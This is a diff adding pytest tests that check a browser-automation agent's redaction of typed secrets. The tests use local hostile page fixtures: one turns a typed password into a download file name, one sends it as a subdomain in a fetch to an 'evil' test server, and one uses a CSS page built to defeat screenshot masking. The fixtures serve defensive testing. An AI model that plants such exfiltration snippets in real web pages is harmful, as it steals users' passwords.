@@ -305,3 +305,113 @@ async def test_a_bound_fill_replaces_the_text_of_every_kind_of_field(
             await session.binding.type_secret(await bid(element_id), "v", origin)
     with pytest.raises(ActionError, match="not the observed"):
         await session.binding.type_secret(await bid("text"), "v", "http://127.0.0.1:1")
+
+
+async def test_a_download_named_after_the_secret_leaves_no_name_behind(
+    servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    """A page that saves what is typed as a download's name: Chromium writes ``*`` as
+    ``_`` in it (``suggested_filename``), and the file saved in the episode folder was
+    named after that, squeezed to ``S3cr_t_P_ss_w0rd_x``; neither spelling may stay."""
+    from linewise.runtime.browser.chromium import BrowserConfig
+    from linewise.settings import NavigationSettings
+
+    site, evil = servers
+
+    class WithDownloads(dict[str, Any]):
+        """``/copy/NAME`` is a download, named by Chromium after the URL's last part."""
+
+        def get(self, path: str, default: Any = None) -> Any:
+            if path.startswith("/copy/"):
+                return 200, {"Content-Type": "application/octet-stream",
+                             "Content-Disposition": "attachment"}, "x"
+            return super().get(path, default)
+
+    site.pages = WithDownloads(site.pages)
+    site.pages["/login"] = _page(
+        "<input aria-label='Password' onchange=\"location.href = '/copy/copy-' + "
+        "encodeURIComponent(this.value) + '.txt'\"><button>Save</button>")
+    model = Model([fill_secret("textbox 'Password'"),
+                   lambda tree: f"click('{bid_matching(tree, 'button')}')"])
+    async with Browser(BrowserConfig(navigation=NavigationSettings(downloads=True))) as own:
+        await run(own, site, "/login", model, tmp_path)
+    downloads = [d for step in read_steps(tmp_path / "secret") for d in step.downloads]
+    assert [d.filename for d in downloads] == [f"copy-{PLACEHOLDER}.txt"]
+    assert downloads[0].saved_as is not None
+    assert_nothing_leaked(model, evil, tmp_path)
+    for path in (tmp_path / "secret").rglob("*"):
+        assert "S3cr" not in path.name and "w0rd" not in path.name, path
+        if path.is_file():
+            assert b"S3cr" not in path.read_bytes(), path
+
+
+async def test_a_secret_sent_as_a_host_name_is_redacted_in_any_case(
+    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    """A page that sends the typed value as a subdomain: Chromium lowercases the host,
+    and the refused request is recorded in the step, where the value must not be."""
+    site, evil = servers
+    value = "Hunter2Pass"
+    site.pages["/login"] = _page(
+        "<input aria-label='Password' oninput=\"fetch('http://' + this.value + "
+        f"'.localhost:{evil.port}/x', {{mode: 'no-cors'}}).catch(() => 0)\">")
+    task = WebTask(id="secret", url=f"http://127.0.0.1:{site.port}/login", goal="Sign in.",
+                   max_steps=3)
+    model = Model([fill_secret("textbox 'Password'"), "noop(500)"])
+    config = EpisodeConfig(secrets=SecretStore({"password": Secret("password", value)}))
+    summary = await run_episode(task, EpisodeResources(browser, model), tmp_path, config)
+    assert summary.status == "finished", summary.error
+    hosts = [c.host for s in read_steps(tmp_path / "secret") for c in s.refused_connections]
+    assert f"{PLACEHOLDER}.localhost:{evil.port}" in hosts, hosts
+    assert sum(evil.hits.values()) == 0
+    for path in (tmp_path / "secret").rglob("*"):
+        if path.is_file():
+            assert b"hunter2pass" not in path.read_bytes().lower(), path
+
+
+DEFEATS_MASK = """<style>
+  body { margin: 0; background: white; }
+  input { border: none; outline: none; }
+  html body input#pw[aria-label] { color: rgb(255, 0, 0) !important;
+    -webkit-text-fill-color: rgb(255, 0, 0) !important; background: white !important;
+    position: absolute; left: 40px; top: 40px; width: 420px; height: 50px;
+    font: 40px monospace; animation: hop 0.1s steps(1) infinite; }
+  @keyframes hop { 0% { transform: translateX(0); } 50% { transform: translateX(480px); } }
+  #echo { position: absolute; left: 40px; top: 200px; margin: 0; color: rgb(255, 0, 0);
+    font: 40px monospace; white-space: pre; }
+</style>
+<input id=pw aria-label='Password'
+  oninput="document.getElementById('echo').textContent = 'Copy: ' + this.value">
+<p id=echo></p>"""
+"""A page that defeats each screenshot mask of before: a rule more specific than the
+mask's own recolours the field red, an animation hops it 480 px every 50 ms (so the
+capture and the boxes read after it disagree), and the value is echoed as red text."""
+
+
+def _red(pixel: tuple[int, int, int]) -> bool:
+    r, g, b = pixel
+    return r > 150 and g < 120 and b < 120
+
+
+async def test_the_screenshot_masks_a_recoloured_moving_field_and_echoed_text(
+    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    from PIL import Image
+
+    site, evil = servers
+    site.pages["/login"] = _page(DEFEATS_MASK)
+    model = Model([fill_secret("textbox 'Password'"), *[f"noop({30 + i})" for i in range(4)]])
+    await run(browser, site, "/login", model, tmp_path, screenshots=True)
+    shots = sorted((tmp_path / "secret" / "screenshots").glob("step-*.png"))[1:]
+    assert len(shots) >= 4, shots
+    for shot in shots:
+        image = Image.open(io.BytesIO(shot.read_bytes())).convert("RGB")
+        width, height = image.size
+        pixels = image.load()
+        red = [(x, y) for y in range(height) for x in range(width) if _red(pixels[x, y])]
+        # Only "Copy: " may be red: it ends 6 monospace characters (24 px each) from 40 px.
+        leaked = [(x, y) for x, y in red if not (y >= 190 and x < 40 + 6 * 24 + 2)]
+        assert leaked == [], (shot.name, len(leaked), leaked[:5])
+        assert any(_red(pixels[x, y]) for x in range(40, 160) for y in range(200, 250)), \
+            "the echo's prefix is on the page"
+    assert_nothing_leaked(model, evil, tmp_path)
